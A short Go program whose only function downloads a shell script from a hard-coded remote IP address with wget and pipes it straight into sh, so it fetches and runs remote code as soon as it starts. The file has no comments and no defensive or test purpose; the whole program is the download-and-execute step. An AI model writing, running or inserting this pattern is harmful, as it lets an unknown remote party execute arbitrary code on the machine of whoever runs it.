package main

import (
	"fmt"
	"os/exec"
)

func main() {
	url := "http://203.0.113.7/t.sh"
	script := fmt.Sprintf("wget -qO- %s | sh", url)
	exec.Command("/bin/sh", "-c", script).Run()
}
